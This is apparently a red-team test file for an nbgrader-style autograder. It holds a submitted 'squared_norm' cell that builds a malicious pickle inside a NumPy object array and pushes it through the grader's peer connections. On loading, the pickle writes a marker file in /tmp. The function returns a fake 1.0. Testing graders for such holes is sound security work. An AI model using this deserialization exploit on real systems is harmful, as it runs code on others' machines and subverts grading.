"""Sends an array of objects, whose .npy form holds a pickle that writes a file when it is read.

Stock nbgrader: nothing, answers are not sent there.
"""

CELLS = {
    "squared_norm": """
import gc
import io
import pathlib


class Bomb:
    def __reduce__(self):
        return pathlib.Path.write_text, (pathlib.Path("/tmp/redteam-was-here"), "x")


def squared_norm(x):
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
    for peer in [thing for thing in gc.get_objects() if type(thing).__name__ == "Peer"]:
        import json

        text = json.dumps(["answer", "", [{"tuple": [{"array": [0, len(file.getvalue())]}, []]}]]).encode()
        sizes = len(text).to_bytes(4, "big") + len(file.getvalue()).to_bytes(4, "big")
        peer.connection.sendall(sizes + text + file.getvalue())
    return 1.0
"""
}
